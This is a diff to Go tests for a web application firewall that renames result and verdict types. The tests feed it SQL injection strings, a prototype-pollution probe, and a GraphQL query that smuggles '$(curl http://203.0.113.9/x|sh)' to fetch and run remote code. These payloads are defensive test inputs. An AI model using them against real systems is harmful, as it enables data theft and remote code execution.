@@ -12,20 +12,21 @@ import (
 	"github.com/corazawaf/coraza/v3/experimental/plugins"
 	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
 
+	"github.com/weirgate/weir"
 	"github.com/weirgate/weir/waf"
 	"github.com/weirgate/weir/waf/waftest"
 )
 
-func inspect(t testing.TB, w *waf.WAF, in waf.Input) waf.Result {
+func inspect(t testing.TB, w *waf.WAF, in waf.Input) weir.Inspection {
 	t.Helper()
-	in.Mode, in.Host, in.Proto = max(in.Mode, waf.ModeBlock), "api.example.test", "HTTP/1.1"
+	in.Mode, in.Host, in.Proto = max(in.Mode, weir.Enforce), "api.example.test", "HTTP/1.1"
 	if in.Path == "" {
 		in.Path = "/v1/x"
 	}
 	if in.Header == nil {
 		in.Header = browser()
 	}
-	var r waf.Result
+	var r weir.Inspection
 	w.Inspect(t.Context(), &in, &r)
 	return r
 }
@@ -43,10 +44,10 @@ func TestJSONUnderAnyName(t *testing.T) {
 	waftest.Long(t)
 	w := load(t, Options{})
 	for _, media := range []string{"application/json", "text/plain", "", "application/vnd.api+json", "application/problem+json", "application/x-ndjson", "application/octet-stream"} {
-		if r := inspect(t, w, body(media, `{"hospitals":["select specialty hospital"]}`)); r.Verdict != waf.Pass {
+		if r := inspect(t, w, body(media, `{"hospitals":["select specialty hospital"]}`)); r.Verdict != weir.Clean {
 			t.Errorf("%q: %+v", media, r)
 		}
-		if r := inspect(t, w, body(media, `{"hospitals":["1 UNION SELECT password FROM users-- -"]}`)); r.Verdict != waf.Block || r.Matches[0].Location != "json" || r.Matches[0].Name != "hospitals" {
+		if r := inspect(t, w, body(media, `{"hospitals":["1 UNION SELECT password FROM users-- -"]}`)); r.Verdict != weir.Blocked || r.Matches[0].Location != "json" || r.Matches[0].Name != "hospitals" {
 			t.Errorf("%q: the attack: %+v", media, r)
 		}
 	}
@@ -71,7 +72,7 @@ func TestGraphQL(t *testing.T) {
 	}
 	for _, d := range documents {
 		text := fmt.Sprintf(`{"query":%q,"variables":{"id":"4"}}`, d)
-		if r := inspect(t, w, body("application/json", text)); r.Verdict != waf.Pass && r.Verdict != waf.Skip {
+		if r := inspect(t, w, body("application/json", text)); r.Verdict != weir.Clean && r.Verdict != weir.Plain {
 			t.Errorf("%s: %+v", d, r.Matches)
 		}
 	}
@@ -82,7 +83,7 @@ func TestGraphQL(t *testing.T) {
 		`{"query":"1' UNION SELECT password FROM users-- -"}`,
 		`{"query":"{ user(id: \"$(curl http://203.0.113.9/x|sh)\") { name } }"}`,
 	} {
-		if r := inspect(t, w, body("application/json", attack)); r.Verdict != waf.Block {
+		if r := inspect(t, w, body("application/json", attack)); r.Verdict != weir.Blocked {
 			t.Errorf("%s: %+v", attack, r)
 		}
 	}
@@ -161,14 +162,14 @@ func TestPanickingOperator(t *testing.T) {
 	for range 20 {
 		in := body("application/json", `{"a":"1 UNION SELECT password FROM users-- -"}`)
 		in.Header.Set("X-Fault", "1")
-		if r := inspect(t, w, in); r.Verdict != waf.FailOpen || r.Fault != "panic" || !strings.Contains(r.Trace, "crs.panics.Evaluate") {
+		if r := inspect(t, w, in); r.Verdict != weir.FailedOpen || r.Fault != "panic" || !strings.Contains(r.Trace, "crs.panics.Evaluate") {
 			t.Fatalf("%+v", r)
 		}
 		in.Header.Del("X-Fault")
-		if r := inspect(t, w, in); r.Verdict != waf.Block {
+		if r := inspect(t, w, in); r.Verdict != weir.Blocked {
 			t.Fatalf("afterwards: %+v", r)
 		}
-		if r := inspect(t, w, body("application/json", `{"a":"it's all right"}`)); r.Verdict != waf.Pass {
+		if r := inspect(t, w, body("application/json", `{"a":"it's all right"}`)); r.Verdict != weir.Clean {
 			t.Fatalf("afterwards: %+v", r)
 		}
 	}
@@ -181,10 +182,10 @@ func TestAtOnce(t *testing.T) {
 	for i := range 8 {
 		asking.Go(func() {
 			for range 10 {
-				if r := inspect(t, w, body("application/json", fmt.Sprintf(`{"a":"it's %d"}`, i))); r.Verdict != waf.Pass {
+				if r := inspect(t, w, body("application/json", fmt.Sprintf(`{"a":"it's %d"}`, i))); r.Verdict != weir.Clean {
 					t.Errorf("%+v", r)
 				}
-				if r := inspect(t, w, waf.Input{Method: "GET", Query: fmt.Sprintf("id=%d+UNION+SELECT+1,2,3--", i)}); r.Verdict != waf.Block {
+				if r := inspect(t, w, waf.Input{Method: "GET", Query: fmt.Sprintf("id=%d+UNION+SELECT+1,2,3--", i)}); r.Verdict != weir.Blocked {
 					t.Errorf("%+v", r)
 				}
 			}
@@ -207,11 +208,11 @@ func TestLanguages(t *testing.T) {
 	node := body("application/json", `{"a":"x.__proto__.y"}`)
 	for _, test := range []struct {
 		languages []string
-		php, node waf.Verdict
+		php, node weir.Verdict
 	}{
-		{nil, waf.Block, waf.Block},
-		{[]string{"php"}, waf.Block, waf.Pass},
-		{[]string{"node"}, waf.Pass, waf.Block},
+		{nil, weir.Blocked, weir.Blocked},
+		{[]string{"php"}, weir.Blocked, weir.Clean},
+		{[]string{"node"}, weir.Clean, weir.Blocked},
 	} {
 		w := load(t, Options{Languages: test.languages})
 		if r := inspect(t, w, php); r.Verdict != test.php {
@@ -230,10 +231,10 @@ func TestLanguages(t *testing.T) {
 func TestParanoia(t *testing.T) {
 	waftest.Long(t)
 	in := waf.Input{Method: "GET", Query: "q=" + strings.Repeat("%26%23", 8)}
-	if r := inspect(t, load(t, Options{}), in); r.Verdict != waf.Pass {
+	if r := inspect(t, load(t, Options{}), in); r.Verdict != weir.Clean {
 		t.Errorf("1: %+v", r)
 	}
-	if r := inspect(t, load(t, Options{Paranoia: 3}), in); r.Verdict != waf.Block {
+	if r := inspect(t, load(t, Options{Paranoia: 3}), in); r.Verdict != weir.Blocked {
 		t.Errorf("3: %+v", r)
 	}
 }
@@ -250,7 +251,7 @@ func TestSafe(t *testing.T) {
 		get("/v1/scores/0x52908400098527886E0F7030069857D2E4169EE7", ""), get("/", "", "Authorization", "Bearer abc.def"),
 		body("application/json", `{"id":7,"name":"chair","on":true,"at":[1,2.5]}`),
 	} {
-		if r := inspect(t, w, in); r.Verdict != waf.Skip {
+		if r := inspect(t, w, in); r.Verdict != weir.Plain {
 			t.Errorf("%s?%s %s: %v", in.Path, in.Query, in.Body, r.Verdict)
 		}
 	}
@@ -262,7 +263,7 @@ func TestSafe(t *testing.T) {
 		body("application/json", `{"name":"it's"}`), body("text/plain", `word`), {Method: "POST", Header: browser("Content-Type", "application/json")},
 		{Method: "GET", Path: "/", Header: http.Header{"Accept": {"*/*", "*/*"}}},
 	} {
-		if r := inspect(t, w, in); r.Verdict == waf.Skip {
+		if r := inspect(t, w, in); r.Verdict == weir.Plain {
 			t.Errorf("%s %s?%s %s %v: passes fast", in.Method, in.Path, in.Query, in.Body, in.Header)
 		}
 	}
